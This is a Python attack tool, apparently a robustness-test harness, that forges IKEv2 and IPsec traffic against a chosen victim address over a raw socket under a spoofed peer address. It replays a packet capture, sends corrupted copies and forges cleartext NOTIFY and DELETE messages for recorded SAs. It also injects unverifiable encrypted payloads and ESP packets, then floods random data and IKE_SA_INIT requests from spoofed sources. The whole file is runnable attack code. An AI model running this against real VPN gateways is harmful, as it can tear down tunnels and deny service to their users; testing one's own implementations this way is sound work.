"""
Somebody on the path who has recorded a peer's traffic and can send under its address, but knows no key: replays the recording,
damaged copies of it, and messages of its own making that name the SAs in it. argv: pcap file of Ethernet frames, address of the
victim, packets per second. A JSON line on standard output for the IKE SAs it has heard of, then one for each kind of attack;
ends by itself.
"""
import json
import random
import socket
import struct
import sys
import time

recording, victim, rate = sys.argv[1], sys.argv[2], int(sys.argv[3])
IKE, NAT, MARKER = 500, 4500, bytes(4)
IKE_SA_INIT, IKE_AUTH, CREATE_CHILD_SA, INFORMATIONAL = 34, 35, 36, 37
NOTIFY, DELETE, SK, SKF = 41, 42, 46, 53
dice = random.Random(1)


def frames(path):
    """The Ethernet frames of a pcap file, little-endian as tcpdump writes it here."""
    with open(path, "rb") as file:
        data = file.read()
    at = 24
    while at + 16 <= len(data):
        (length,) = struct.unpack_from("<I", data, at + 8)
        yield data[at + 16 : at + 16 + length]
        at += 16 + length


def datagrams(path):
    """(source, source port, destination port, octets) of each UDP datagram over IPv4 that went to the victim."""
    for frame in frames(path):
        packet = frame[14:]
        if frame[12:14] != b"\x08\x00" or packet[9] != 17 or packet[16:20] != socket.inet_aton(victim):
            continue
        udp = packet[4 * (packet[0] & 15) :]
        source, destination, length = struct.unpack_from("!HHH", udp)
        yield socket.inet_ntoa(packet[12:16]), source, destination, udp[8:length]


heard = list(datagrams(recording))
peer = heard[0][0]
spis = []  # of the IKE SAs, 16 octets each
esp_spis = []
for _, _, port, octets in heard:
    ike = octets[4:] if port == NAT and octets[:4] == MARKER else octets if port == IKE else None
    known, name = (spis, ike[:16]) if ike is not None else (esp_spis, octets[:4])
    if len(octets) > 28 and name not in known:
        known.append(name)

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
began = time.monotonic()


def send(port, octets, source=None):
    global sent
    udp = struct.pack("!HHHH", port, port, 8 + len(octets), 0) + octets
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0)
    packet = header + socket.inet_aton(source or peer) + socket.inet_aton(victim) + udp
    raw.sendto(packet, (victim, 0))
    sent += 1
    ahead = began + sent / rate - time.monotonic()
    if ahead > 0:
        time.sleep(ahead)


def message(spi, exchange, flags, message_id, first, payloads):
    return spi + struct.pack("!BBBBII", first, 0x20, exchange, flags, message_id, 28 + len(payloads)) + payloads


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def send_ike(octets, source=None):
    send(IKE, octets, source)
    send(NAT, MARKER + octets, source)


def attack(name, run):
    before = sent
    run()
    print(json.dumps({"attack": name, "packets": sent - before}), flush=True)


def replay():
    for _ in range(3):
        for _, _, port, octets in heard:
            send(port, octets)


def damaged():
    for _ in range(3):
        for _, _, port, octets in heard:
            copy = bytearray(octets)
            copy[dice.randrange(len(copy))] ^= 1 << dice.randrange(8)
            send(port, bytes(copy[: dice.randrange(1, len(copy))] if dice.random() < 0.3 else copy))


def notifies():
    """Every error, and DELETE, in the clear, as request and as response, for SAs that exist and message IDs that may be next."""
    for spi in spis:
        for exchange in (IKE_SA_INIT, IKE_AUTH, CREATE_CHILD_SA, INFORMATIONAL):
            for flags in (0x00, 0x08, 0x20, 0x28):
                for message_id in range(4):
                    error = dice.choice([1, 4, 5, 7, 9, 11, 14, 17, 24, 34, 38, 43, 44])
                    body = payload(DELETE, struct.pack("!BBH", 0, 0, error)) + payload(0, struct.pack("!BBH", 1, 0, 0))
                    send_ike(message(spi, exchange, flags, message_id, NOTIFY, body))


def forged():
    """Encrypted payloads and fragments of them whose ICV cannot verify; ESP under the SPIs in use, far ahead in sequence."""
    for _ in range(300):
        spi, length = dice.choice(spis), dice.randrange(0, 300)
        flags, message_id = dice.choice([0x00, 0x08, 0x20, 0x28]), dice.randrange(12)
        exchange = dice.choice([IKE_AUTH, CREATE_CHILD_SA, INFORMATIONAL])
        send_ike(message(spi, exchange, flags, message_id, SK, payload(DELETE, dice.randbytes(length))))
        part = struct.pack("!HH", dice.randrange(1, 9), 8) + dice.randbytes(length)
        send_ike(message(spi, exchange, flags, message_id, SKF, payload(0, part)))
        for esp in esp_spis:
            send(NAT, esp + struct.pack("!I", dice.choice([1, 1 << 20, 0xFFFFFFFF])) + dice.randbytes(64 + length))


def garbage():
    for _ in range(2_000):
        send(dice.choice([IKE, NAT]), dice.randbytes(dice.randrange(1, 1_200)))


def beginners():
    """IKE_SA_INIT requests under SPIs nobody has heard of, from the peer's address and from others."""
    for _ in range(1_000):
        source = peer if dice.random() < 0.5 else f"198.51.100.{dice.randrange(30, 250)}"
        request = message(dice.randbytes(8) + bytes(8), IKE_SA_INIT, 0x08, 0, NOTIFY, payload(0, dice.randbytes(200)))
        send_ike(request, source)


print(json.dumps({"recorded": [spi.hex() for spi in spis]}), flush=True)
for each in (replay, damaged, notifies, forged, garbage, beginners):
    attack(each.__name__, each)
